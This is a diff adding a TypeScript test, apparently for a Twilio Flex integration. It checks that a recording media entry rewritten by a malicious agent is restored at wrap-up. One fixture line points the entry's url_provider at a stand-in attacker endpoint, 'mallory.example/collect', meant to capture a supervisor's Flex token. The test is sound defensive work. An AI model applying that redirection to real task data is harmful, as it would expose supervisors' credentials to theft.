@@ -265,3 +265,40 @@ describe('leases and claims steer the server only when the Functions wrote them'
     expect(await recordingStatus(alice.recordingSid)).toBe('completed');
   }, 30_000);
 });
+
+describe('a media entry is the product’s, whatever the agent writes', () => {
+  it('a media entry an agent points at their own server (to collect a supervisor’s Flex token) is rebuilt when the task wraps up, and the repair is listed', async () => {
+    // Event Streams, as Twilio delivers it, feeds the sink (src/sandbox/event-streams.ts).
+    await stack.sandbox.setEventSink(
+      stack.functionsUrl.replace('://', `://events:${SINK_PASSWORD}@`) + '/task-events',
+      ['com.twilio.taskrouter.task.wrapup', 'com.twilio.taskrouter.task.completed'],
+    );
+    const c = await recordInboundCall(stack, { identity: 'mallory' });
+    const written = (await stack.sandbox.task(c.taskSid)).attributes.conversations as {
+      media: Record<string, unknown>[];
+    };
+    const ours = written.media.find((m) => m.type === 'VoiceRecording')!;
+    expect(String(ours.url_provider)).toContain(stack.functionsUrl);
+    await agentWrites(c.taskSid, (a) => ({
+      ...a,
+      conversations: {
+        ...(a.conversations as Record<string, unknown>),
+        media: [{ ...ours, url_provider: 'https://mallory.example/collect' }],
+      },
+    }));
+    await stack.sandbox.hangup(c.call.workerCallSid!);
+    await stack.sandbox.setReservationStatus(c.reservationSid, 'wrapping');
+    await stack.sandbox.setTaskStatus(c.taskSid, 'wrapping');
+    for (;;) {
+      if ((await stack.sandbox.eventDelivery()).pending === 0) break;
+      await new Promise((resolve) => setTimeout(resolve, 25));
+    }
+
+    expect((await stack.sandbox.eventDeliveries()).map((d) => d.responseStatus)).toEqual([200]);
+    const after = (await stack.sandbox.task(c.taskSid)).attributes;
+    const media = (after.conversations as { media: Record<string, unknown>[] }).media;
+    expect(media.filter((m) => m.type === 'VoiceRecording')).toEqual([ours]);
+    expect(JSON.stringify(after)).not.toContain('mallory.example');
+    expect(JSON.stringify(after.dual_channel_recording)).toContain('media_repairs');
+  }, 30_000);
+});
